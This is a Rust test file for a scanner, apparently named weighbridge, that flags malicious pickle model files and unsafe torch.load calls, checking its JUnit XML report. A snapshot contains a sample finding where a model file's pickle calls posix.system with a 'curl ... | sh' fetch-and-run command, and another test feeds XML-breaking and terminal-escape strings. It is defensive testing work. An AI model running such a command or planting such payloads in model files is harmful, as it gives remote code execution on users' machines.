//! What readers of test results find.

use weighbridge::{
    finding::{Finding, Level},
    inventory::Artifact,
    report::Style,
    verdict::Report,
};

use crate::support::{
    random::Random,
    report::{
        FORMAT, babble, finding, hostile, hostile_report, hostile_text, only, report, source,
        torch_zip, written,
    },
    xml::{Element, parse},
};

fn junit(report: &Report) -> Element {
    parse(&written("junit", report, Style::default()))
}

#[test]
fn a_failed_case_for_each_refusal() {
    let warning = finding(&FORMAT, "src/train.py", "a warning");
    let mut report = only(vec![torch_zip(), source(), warning]);
    report.notices = vec!["the clone is shallow".to_owned()];
    for path in ["models/fine.pt", "models/resnet.pt"] {
        report.artifacts.push(Artifact {
            path: path.into(),
            ..Artifact::default()
        });
    }
    insta::assert_snapshot!(written("junit", &report, Style::default()), @r#"
    <?xml version="1.0" encoding="UTF-8"?>
    <testsuites name="weighbridge" tests="5" failures="2" errors="0">
      <testsuite name="weighbridge" tests="1" failures="0" errors="0" skipped="0">
        <properties>
          <property name="version" value="0.1.0"/>
          <property name="view" value="the work tree"/>
          <property name="policy" value="recommended (built in)"/>
        </properties>
        <testcase classname="weighbridge" name="there is something to check"/>
        <system-out>refused: 2 errors in 2 files, 1 warning
    checked: 1 artifact and 1 source file in the work tree
    policy: recommended (built in)
    note: the clone is shallow</system-out>
      </testsuite>
      <testsuite name="artifacts without findings" tests="1" failures="0" errors="0" skipped="0">
        <testcase classname="models/fine.pt" name="loads as the policy allows" file="models/fine.pt"/>
      </testsuite>
      <testsuite name="models/resnet.pt" tests="1" failures="1" errors="0" skipped="0">
        <testcase classname="models/resnet.pt" name="global-not-allowed at archive/data.pkl @ 0x1f REDUCE" file="models/resnet.pt" line="1"><failure message="loading runs posix.system(&apos;curl https://cdn.example/x | sh&apos;); the policy does not list posix.system" type="global-not-allowed">Error, rule global-not-allowed: loading runs posix.system(&apos;curl https://cdn.example/x | sh&apos;); the policy does not list posix.system.
    Place: archive/data.pkl, opcode REDUCE at offset 0x1f.
    Opcode at 0x000b  STACK_GLOBAL     posix.system
    Opcode at 0x000e  SHORT_BINUNICODE &apos;curl https://cdn.example/x | sh&apos;
    Opcode at 0x001e  TUPLE1
    Opcode at 0x001f  REDUCE           posix.system(&apos;curl https://cdn.example/x | sh&apos;)
    Marked: posix.system(&apos;curl https://cdn.example/x | sh&apos;): runs here.
    Marked: posix.system: resolved here.
    Decided by weighbridge.yaml, line 7:   allow: [torch, numpy]
    Marked: [torch, numpy]: neither list names posix.system.
    Help: do not load this file; ask whoever published it for safetensors
    Help: `weighbridge inspect models/resnet.pt --disassemble` shows every step
    </failure></testcase>
      </testsuite>
      <testsuite name="src/train.py" tests="2" failures="1" errors="0" skipped="0">
        <testcase classname="src/train.py" name="unsafe-load at 12:12" file="src/train.py" line="12"><failure message="torch.load without weights_only=True runs what the file says" type="unsafe-load">Error, rule unsafe-load: torch.load without weights_only=True runs what the file says.
    Place: line 12, column 12.
    Line 11: def restore(path):
    Line 12:     state = torch.load(path, map_location=&quot;cpu&quot;)
    Line 13:     return state[&quot;größe&quot;]
    Marked: torch.load: unpickles whatever the file says.
    Marked: path, map_location=&quot;cpu&quot;
    Help: pass `weights_only=True`:
    Help, continued: state = torch.load(path, map_location=&quot;cpu&quot;, weights_only=True)
    </failure></testcase>
        <testcase classname="src/train.py" name="format-not-allowed" file="src/train.py" line="1"><system-out>Warning, rule format-not-allowed: a warning.
    </system-out></testcase>
      </testsuite>
    </testsuites>
    "#);
}

#[test]
fn nothing_to_check_is_a_skipped_case() {
    let root = junit(&Report::default());
    let suite = root.all("testsuite").next().unwrap();
    assert_eq!(suite.attribute("skipped"), "1");
    assert_eq!(
        suite.all("testcase").next().unwrap().children[0].name,
        "skipped"
    );
}

/// Readers trust the counts, and know these elements and attributes.
#[test]
fn the_counts_are_right_and_the_words_are_known() {
    let mut reports = vec![
        report(),
        hostile_report(&hostile_text(), hostile),
        only(vec![]),
        Report::default(),
    ];
    let mut random = Random::new(3);
    for _ in 0..200 {
        let babble = babble(&mut random);
        reports.push(hostile_report(&babble.clone().into(), || babble.clone()));
    }
    for report in reports {
        let root = junit(&report);
        assert_eq!(root.name, "testsuites");
        let (mut tests, mut failures) = (0, 0);
        for suite in &root.children {
            assert_eq!(suite.name, "testsuite");
            let count = |name: &str| {
                let having = suite
                    .all("testcase")
                    .filter(|case| case.all(name).next().is_some());
                having.count().to_string()
            };
            let cases = suite.all("testcase").count();
            assert_eq!(suite.attribute("tests"), cases.to_string());
            assert_eq!(suite.attribute("failures"), count("failure"));
            assert_eq!(suite.attribute("skipped"), count("skipped"));
            assert_ne!(suite.attribute("name"), "");
            tests += cases;
            failures += suite.attribute("failures").parse::<usize>().unwrap();
            for case in suite.all("testcase") {
                for (name, value) in &case.attributes {
                    assert!(["classname", "name", "file", "line"].contains(&name.as_str()));
                    assert_ne!(value, "");
                }
                for child in &case.children {
                    assert!(["failure", "skipped", "system-out"].contains(&child.name.as_str()));
                }
            }
        }
        assert_eq!(root.attribute("tests"), tests.to_string());
        assert_eq!(root.attribute("failures"), failures.to_string());
        let denied = report.findings.iter().filter(|f| f.level == Level::Deny);
        assert_eq!(failures, denied.count());
    }
}

#[test]
fn what_xml_cannot_say_is_shown() {
    let one = Finding {
        message: "a\u{0}b\u{fffe}c\u{ffff}d ]]> </failure> &amp; \u{1b}[2J".to_owned(),
        ..finding(&FORMAT, "]]><x>.pt", "")
    };
    let mut denied = one;
    denied.level = Level::Deny;
    let root = junit(&only(vec![denied]));
    let suite = root.all("testsuite").last().unwrap();
    assert_eq!(suite.attribute("name"), "]]><x>.pt");
    let failure = suite.children[0].all("failure").next().unwrap();
    assert_eq!(
        failure.attribute("message"),
        "a\\u{0}b\\u{fffe}c\\u{ffff}d ]]> </failure> &amp; \\u{1b}[2J"
    );
}
